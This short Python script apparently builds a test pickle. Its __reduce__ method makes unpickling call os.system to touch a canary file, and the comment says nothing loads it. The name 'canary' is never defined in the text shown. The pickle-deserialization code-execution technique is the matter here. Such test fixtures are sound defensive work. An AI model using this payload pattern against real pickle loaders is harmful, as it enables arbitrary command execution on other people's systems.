# Prints a pickle that runs a command when it is loaded.
# control: none, nobody loads it
import os
import pickle
import sys


class Trap:
    def __reduce__(self):
        return os.system, (f"touch {canary}/planted.txt",)


sys.stdout.buffer.write(pickle.dumps(Trap()))
